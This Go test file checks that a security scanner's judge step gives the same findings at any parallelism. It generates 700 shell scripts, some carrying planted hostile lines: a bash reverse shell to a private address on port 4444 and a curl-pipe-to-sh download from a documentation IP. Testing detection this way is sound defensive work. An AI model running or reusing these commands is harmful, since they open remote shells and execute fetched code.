package cli

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"runtime"
	"testing"

	"kensa.dev/kensa/analyzers/inventory"
	"kensa.dev/kensa/internal/limits"
	"kensa.dev/kensa/internal/result"
)

// judge evaluates batches of artifacts several at once: its findings and errors must be
// those of one artifact after the other, in the same order, at any parallelism.
func TestJudgeSameAtAnyParallelism(t *testing.T) {
	dir := t.TempDir()
	for i := range 700 {
		body := fmt.Sprintf("#!/bin/sh\necho %d\n", i)
		if i%7 == 0 {
			body += fmt.Sprintf("bash -i >& /dev/tcp/10.0.0.%d/4444 0>&1\n", i%250)
		}
		if i%11 == 0 {
			body += "curl http://198.51.100.7/x.sh | sh\n"
		}
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("s%03d.sh", i)), []byte(body), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	_, eng, err := (&ruleFlags{}).load(ExitUndecided) // the built-in packs, as kensa loads them
	if err != nil {
		t.Fatal(err)
	}
	judgeAt := func(procs int) ([]result.Finding, []result.Error) {
		defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(procs))
		opts := inventory.Options{Limits: limits.Default(), Scratch: t.TempDir(), Jobs: 1,
			Analyzers: append(eng.Needs(), eng.MatchAnalyzer())}
		inv, err := inventory.Take(context.Background(), []string{"dir:" + dir}, opts)
		if err != nil {
			t.Fatal(err)
		}
		defer inv.Close()
		if len(inv.Artifacts) < 700 {
			t.Fatalf("%d artifacts", len(inv.Artifacts))
		}
		f, e := judge(context.Background(), eng, inv, nil)
		for _, a := range inv.Artifacts {
			if a.Facts != nil {
				t.Fatalf("%s: facts kept", a.Path)
			}
		}
		return f, e
	}
	f1, e1 := judgeAt(1)
	f4, e4 := judgeAt(4)
	if n := len(f1); n < 100 {
		t.Fatalf("%d findings, want one per planted reverse shell and download at least", n)
	}
	if !reflect.DeepEqual(f1, f4) || !reflect.DeepEqual(e1, e4) {
		t.Errorf("one at a time: %d findings, %v errors; four at once: %d findings, %v errors",
			len(f1), e1, len(f4), e4)
	}
}
